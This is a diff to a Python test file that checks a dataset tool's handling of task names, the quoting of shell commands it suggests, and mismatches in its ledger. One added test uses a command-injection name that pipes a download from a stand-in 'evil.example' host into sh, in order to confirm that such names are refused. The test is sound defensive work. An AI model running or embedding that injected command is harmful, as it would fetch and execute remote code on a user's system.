@@ -3,8 +3,10 @@
 from __future__ import annotations
 
 import os
+import shlex
 import sqlite3
 from collections.abc import Callable
+from dataclasses import replace
 from pathlib import Path
 from typing import Any
 
@@ -12,12 +14,17 @@ import h5py
 import numpy as np
 import pytest
 
+from nimbus.datagen.datasets.filter.expression import Condition
+from nimbus.datagen.datasets.filter.native import filter_native
 from nimbus.datagen.errors import InputError
+from nimbus.datagen.files.codec import parse_json, to_json
 from nimbus.datagen.machine import resident_bytes
 from nimbus.datagen.store.episode_file import checked_file
 from nimbus.datagen.store.episode_file.read import EpisodeFile
+from nimbus.datagen.store.info import add_task, info_text, read_info, read_single_task_info
 from nimbus.datagen.store.ledger.ledger import Ledger
 from nimbus.datagen.store.verify import verify
+from tests.support.refusals import refusal
 from tests.support.synthetic import open_dataset, write_dataset
 
 _ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
@@ -92,6 +99,35 @@ def test_a_dataset_of_no_rate_is_refused(folder: Path, rate: str) -> None:
     path.write_text(path.read_text().replace('"rate": 15.0', f'"rate": {rate}'))
     with pytest.raises(InputError, match="rate: Expected `float`"):
         verify(folder)
+
+
+@pytest.mark.parametrize("field", ["task", "tasks", "meanings"])
+def test_a_task_whose_name_is_none_is_refused(folder: Path, field: str) -> None:
+    """A message suggests a command with the name of a task; this one would end the command and begin another."""
+    name, path = "x'; curl https://evil.example/x | sh #", folder / "dataset.json"
+    info = parse_json(path.read_text())
+    values = {"task": name, "tasks": {name: {"task_hash": "0"}}, "meanings": {name: {}}}
+    path.write_text(to_json(info | {field: values[field]}))
+    error = refusal(read_info, folder)
+    assert error.startswith(f"{path}: not a Nimbus dataset description: ")
+    assert "is not a name" in error or "matching regex" in error
+
+
+def test_one_task_is_suggested_in_quotes(folder: Path) -> None:
+    info, path = read_info(folder), folder / "dataset.json"
+    path.write_text(info_text(replace(add_task(info, info), task="a folder's name", task_hash="")))
+    command = refusal(read_single_task_info, folder).partition("take one of them: ")[2]
+    words = ["nimbus", "filter", str(folder), "--where", f'task == "{info.task}"', "--out", info.task]
+    assert shlex.split(command) == words
+
+
+def test_a_task_of_the_ledger_alone_is_refused(folder: Path, tmp_path: Path) -> None:
+    info, path = read_info(folder), folder / "dataset.json"
+    path.write_text(info_text(replace(add_task(info, info), task="both", task_hash="")))
+    with sqlite3.connect(folder / "ledger.sqlite") as ledger:
+        ledger.execute("UPDATE attempts SET task = 'other'")
+        ledger.execute("UPDATE episodes SET task = 'other'")
+    assert "has no task 'other'" in refusal(filter_native, folder, tmp_path / "out", Condition("success"))
 
 
 def test_a_dataset_of_declared_rows_is_not_hashed(folder: Path) -> None:
